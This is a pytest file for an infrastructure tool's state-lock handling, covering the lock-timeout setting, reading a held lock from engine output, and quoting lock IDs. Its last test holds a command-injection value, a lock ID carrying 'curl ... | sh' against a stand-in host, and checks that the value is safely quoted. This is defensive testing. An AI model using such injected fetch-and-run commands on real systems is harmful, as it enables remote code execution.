"""The engine's state lock: how long a step waits, and the lock read back from what the engine says."""

from __future__ import annotations

import pytest

from shared.errors import UsageError
from shared.ops.state_bucket import state_lock
from tests.support.fake_engine import LOCKED


def test_the_wait_is_five_minutes_unless_told(monkeypatch):
    monkeypatch.delenv("STATE_LOCK_TIMEOUT", raising=False)
    assert state_lock.engine_argument() == "-lock-timeout=300s"
    monkeypatch.setenv("STATE_LOCK_TIMEOUT", "0")
    assert state_lock.engine_argument() == "-lock-timeout=0s"


@pytest.mark.parametrize("value", ["-1", "5m", "86401"])
def test_a_wait_that_is_not_seconds_is_refused(monkeypatch, value):
    monkeypatch.setenv("STATE_LOCK_TIMEOUT", value)
    with pytest.raises(UsageError, match="STATE_LOCK_TIMEOUT"):
        state_lock.wait_seconds()


def test_the_lock_another_run_holds_is_read_from_the_engines_error():
    held = state_lock.from_engine_output(LOCKED.format(stack="data-dev"))
    assert held is not None and held.id and held.operation == "OperationTypeApply"
    assert "lock ID " + held.id in held.describe()
    assert state_lock.from_engine_output("Error: something else entirely") is None


def test_a_lock_id_is_quoted_in_the_command_to_copy():
    from shared.config import load_environment

    info = state_lock.LockInfo("0000; curl http://example.invalid | sh", "OperationTypeApply", "ci", "")
    advice = state_lock.what_to_do(load_environment("dev"), "data", "data-dev", info)
    assert advice.endswith("LOCK_ID='0000; curl http://example.invalid | sh'")
